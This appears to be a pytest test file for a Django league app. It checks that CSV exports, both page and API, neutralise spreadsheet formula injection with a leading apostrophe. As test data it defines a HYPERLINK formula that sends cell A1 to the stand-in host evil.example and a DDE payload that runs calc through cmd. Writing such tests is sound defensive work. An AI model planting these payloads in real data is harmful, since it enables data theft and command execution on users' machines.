"""CSV formula injection (issue 10): every CSV, pages and API, writes a cell that a
spreadsheet would run as a formula with a leading apostrophe (OWASP)."""

import csv
import io

import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from clabber_league.core import csvsafe

from .conftest import A_WINS, play

pytestmark = pytest.mark.django_db

EVIL_TEAM = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
EVIL_PLAYER = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def evil(division, teams, scorer, admin):
    aces, bells, *_ = teams
    aces.name = EVIL_TEAM
    aces.save()
    player = aces.members.first().player
    player.name = EVIL_PLAYER
    player.save()
    play(division, aces, bells, A_WINS, user=scorer, confirm_by=admin)
    return aces


def _rows(response) -> list[list[str]]:
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return list(csv.reader(io.StringIO(body)))


def _cells(rows):
    return [cell for row in rows for cell in row]


def _assert_neutralised(rows, *names):
    cells = _cells(rows)
    for name in names:
        assert name not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_the_standings_and_deals_csv_pages_neutralise_formulas(client, viewer, division, evil):
    client.force_login(viewer)
    kwargs = {"club_slug": division.club.slug, "pk": division.pk}
    table = _rows(client.get(reverse("standings:standings-csv", kwargs=kwargs)))
    assert "'" + EVIL_TEAM in _cells(table)
    _assert_neutralised(table, EVIL_TEAM)
    deals = _rows(client.get(reverse("standings:deals-csv", kwargs=kwargs)))
    assert "'" + EVIL_TEAM in _cells(deals)
    _assert_neutralised(deals, EVIL_TEAM)


def test_the_api_csvs_neutralise_formulas_but_keep_negative_numbers(division, viewer, evil):
    client = APIClient()
    client.force_authenticate(viewer)
    base = f"/api/clubs/{division.club.slug}"
    table = _rows(client.get(f"{base}/standings/{division.pk}/standings.csv/"))
    assert "'" + EVIL_TEAM in _cells(table)
    _assert_neutralised(table, EVIL_TEAM)
    assert any(c.startswith("-") and c[1:].isdigit() for c in _cells(table))  # numbers stay
    players = _rows(client.get(f"{base}/leaderboards/players/", {"format": "csv"}))
    assert "'" + EVIL_PLAYER in _cells(players)
    _assert_neutralised(players, EVIL_PLAYER)


def test_every_dangerous_start_is_neutralised_and_numbers_are_left_alone():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csvsafe.cell(start + "1") == "'" + start + "1"
    assert csvsafe.cell(-12) == -12
    assert csvsafe.cell("Mules") == "Mules"
